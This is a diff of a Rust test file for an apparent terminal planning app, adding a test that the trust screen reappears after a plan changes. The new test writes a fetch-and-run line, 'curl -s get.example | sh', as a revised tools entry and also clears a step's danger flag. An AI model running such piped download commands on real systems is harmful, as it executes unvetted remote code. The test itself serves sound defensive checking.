@@ -1,8 +1,9 @@
 //! The screens, each by the keys that lead to it.
 
 use std::path::Path;
+use std::sync::Arc;
 
-use daymark::app::{Screen, Trust};
+use daymark::plan::Facts;
 use daymark::service::plan_folder;
 use daymark::view::Theme;
 
@@ -295,8 +296,21 @@ fn the_report() {
 fn the_question_of_trust() {
     check("trust", true, |stage| {
         stage.app.work.trusted = false;
-        let trust = Trust::new(&stage.app.work.plan);
-        stage.app.screens.push(Screen::Trust(trust));
+        stage.keys("T");
+    });
+}
+
+#[test]
+fn the_question_of_trust_after_a_change() {
+    check("trust-changed", true, |stage| {
+        let plan = &mut stage.app.work.plan;
+        stage.app.work.agreed = Some(Facts::of(plan));
+        stage.app.work.trusted = false;
+        stage.revise("tools", "command -v ssh && curl -s get.example | sh");
+        let plan = Arc::make_mut(&mut stage.app.work.plan);
+        plan.hosts[2].production = true;
+        plan.entries[0].steps[3].danger = None;
+        stage.keys("T");
     });
 }
 
